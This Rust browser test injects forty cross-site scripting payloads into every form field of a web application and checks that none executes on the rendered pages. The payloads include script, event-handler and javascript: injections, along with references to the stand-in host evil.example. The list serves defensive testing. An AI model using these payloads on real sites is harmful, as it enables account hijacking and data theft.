//! Whatever is typed is text: forty ways to smuggle a script in, through every text field of every form,
//! looked at in a real browser.

mod in_browser {
    use std::collections::BTreeMap;

    use serde_json::json;

    use crate::support::acts;
    use crate::support::browser::{Browser, Look};
    use crate::support::forms::links;
    use crate::support::stage::{self, Stage};
    use crate::support::{Person, postgres};

    /// Each would set `window.xss` if it ran, or raise a dialog.
    const PAYLOADS: [&str; 40] = [
        "<script>window.xss=1</script>",
        "</script><script>window.xss=1</script>",
        "<ScRiPt>window.xss=1</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<script/src=data:,window.xss=1></script>",
        "<img src=x onerror=window.xss=1>",
        "<img src=x onerror=\"alert(1)\">",
        "<img/src/onerror=alert(1)>",
        "\"><img src=x onerror=window.xss=1>",
        "'><img src=x onerror=window.xss=1>",
        "\" onfocus=window.xss=1 autofocus x=\"",
        "' onfocus=window.xss=1 autofocus x='",
        "\" onmouseover=alert(1) style=\"position:fixed;inset:0\" x=\"",
        "<svg onload=window.xss=1>",
        "<svg/onload=alert(1)>",
        "<svg><script>window.xss=1</script></svg>",
        "<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=window.xss=1>",
        "<iframe src=javascript:window.parent.xss=1></iframe>",
        "<iframe srcdoc=\"<script>parent.xss=1</script>\"></iframe>",
        "<object data=javascript:window.xss=1></object>",
        "<embed src=javascript:window.xss=1>",
        "<a href=javascript:window.xss=1 autofocus>x</a>",
        "javascript:window.xss=1//",
        "<body onload=window.xss=1>",
        "<details open ontoggle=window.xss=1>",
        "<video><source onerror=window.xss=1></video>",
        "<audio src=x onerror=window.xss=1>",
        "<input autofocus onfocus=window.xss=1>",
        "<select autofocus onfocus=window.xss=1>",
        "<textarea autofocus onfocus=window.xss=1></textarea>",
        "</textarea><script>window.xss=1</script>",
        "</title><script>window.xss=1</script>",
        "<meta http-equiv=refresh content=\"0;url=javascript:window.xss=1\">",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<form action=//evil.example><button>x</button></form>",
        "<!--><script>window.xss=1</script-->",
        "{{constructor.constructor('window.xss=1')()}}&lt;script&gt;&#60;b&#62;",
    ];

    /// Done in the round, and after it has closed; what they need comes before them.
    const PLAYED: &[&str] = &[
        "change one's name",
        "change the settings",
        "appoint to the team",
        "add a milestone",
        "add themes",
        "register a participant",
        "invite a colleague",
        "knock at the open door",
        "confirm at the door",
        "prepare a round",
        "write invitations",
        "comment",
        "propose new wording",
        "answer a question",
        "change a comment",
        "keep the cover",
        "submit",
        "register a group",
        "add a member to a group",
        "pause the round",
        "resume the round",
        "register what came by letter",
        "anchor an excerpt",
        "align with a submission",
        "enter a meeting",
        "put a meeting's comments on the text",
        "register what was said on somebody's behalf",
        "open a closed review",
        "comment in a closed review",
        "publish the submissions",
        "begin a working draft",
        "revise an element",
        "write an explanatory note",
        "respond to a comment",
        "note internally",
        "tag with a theme",
        "note beside an input",
        "gather an element of a framework",
        "write a rationale",
        "correct what became of a paragraph",
        "write an entry of the summary",
        "note a decision",
    ];

    /// Plays the acts with payloads in every text field; says in which fields.
    async fn play(stage: &Stage) -> BTreeMap<String, usize> {
        let mut fields = BTreeMap::new();
        let mut next = 0;
        for name in PLAYED {
            let act = acts::act(name);
            let mut ready = acts::open(stage, act).await.unwrap_or_else(|said| panic!("{said}"));
            let honest = ready.form.clone();
            for (field, is_area) in honest.texts.clone() {
                let value = match is_area {
                    true => PAYLOADS.join("\r\n"),
                    false => {
                        next += 1;
                        PAYLOADS[next % PAYLOADS.len()].to_owned()
                    }
                };
                ready.form.fill(&[(field, value)]);
            }
            let answer = ready.send().await;
            if matches!(answer.status, 200 | 303) {
                for (field, is_area) in &honest.texts {
                    *fields.entry(format!("{name}: {field}")).or_default() +=
                        if *is_area { PAYLOADS.len() } else { 1 };
                }
                continue;
            }
            assert!(answer.status < 500, "{name}: {} {}", answer.status, answer.text());
            // A field that takes dates or addresses alone says so; then only the others are hostile.
            for (field, is_area) in &honest.texts {
                let mut form = honest.clone();
                let value = if *is_area { PAYLOADS.join("\r\n") } else { PAYLOADS[5].to_owned() };
                form.fill(&[(field.clone(), value)]);
                ready.form = form;
                let answer = ready.send().await;
                assert!(answer.status < 500, "{name}: {} {}", answer.status, answer.text());
                *fields.entry(format!("{name}: {field}")).or_default() += 1;
            }
            ready.form = honest;
            ready.send().await;
        }
        fields
    }

    /// The addresses that this person is led to, some of each kind.
    async fn led_to(stage: &Stage, who: &Person) -> Vec<String> {
        let mut waiting = vec!["/".to_owned(), format!("/c/{}", stage.slug)];
        let mut known = waiting.clone();
        let mut kinds: BTreeMap<String, usize> = BTreeMap::new();
        let mut found = Vec::new();
        while let Some(address) = waiting.pop() {
            let page = who.get(&address).await;
            if page.status != 200 || !page.header("content-type").starts_with("text/html") {
                continue;
            }
            if page.body.contains("xss") || page.body.contains("evil.example") {
                found.push(address);
            }
            for link in links(&page.body) {
                let kind: Vec<&str> = link
                    .split(['/', '?'])
                    .filter(|part| part.len() < 20 && !part.contains('='))
                    .collect();
                let count = kinds.entry(kind.join("/")).or_default();
                let skipped = link.starts_with("/language/") || link.starts_with("/assets/");
                if *count < 3 && !skipped && !known.contains(&link) {
                    *count += 1;
                    known.push(link.clone());
                    waiting.push(link);
                }
            }
        }
        found
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn no_text_that_anyone_types_runs_anywhere() {
        // The pages are the same on both engines: once is enough.
        if postgres::cluster().is_some() {
            return;
        }
        let stage = stage::set().await;
        let fields = play(&stage).await;
        assert!(fields.len() > 60, "{} {fields:?}", fields.len());
        stage.server.it_is("2026-05-04T12:00:00Z");
        let browser = Browser::open(Look::DESK).await;
        let mut complaints = Vec::new();
        let mut looked = 0;
        for who in [&stage.visitor, &stage.avaria_focal, &stage.lead, &stage.administrator] {
            for address in led_to(&stage, who).await {
                let url = who.full(&address);
                browser.driver.delete_all_cookies().await.expect("the cookies go");
                if let Some((cookie, value)) = who.session() {
                    browser.wear_cookie(&url, cookie, value).await;
                }
                browser.goto(&url).await;
                if browser.driver.get_alert_text().await.is_ok() {
                    complaints.push(format!("{address}: a dialog"));
                    browser.driver.dismiss_alert().await.expect("it goes");
                }
                let script = "const values = [...document.querySelectorAll('input,textarea')]
                        .map(field => field.value);
                    const text = document.documentElement.textContent + values.join(' ');
                    return { ran: 'xss' in window, shown: arguments[0].filter(p => text.includes(p)).length };";
                let seen = browser.driver.execute(script, vec![json!(PAYLOADS.as_slice())]).await;
                let seen = seen.expect("the page can be asked").json().clone();
                if seen["ran"] != json!(false) {
                    complaints.push(format!("{address}: it ran"));
                }
                if seen["shown"].as_u64().unwrap_or_default() == 0 {
                    complaints.push(format!("{address}: what was sent is not what is shown"));
                }
                let said = browser.complaints().await;
                complaints.extend(said.into_iter().map(|said| format!("{address}: {said}")));
                looked += 1;
            }
        }
        assert!(looked > 20, "only {looked} pages");
        assert!(complaints.is_empty(), "{}\n{}", complaints.len(), complaints.join("\n"));
    }
}
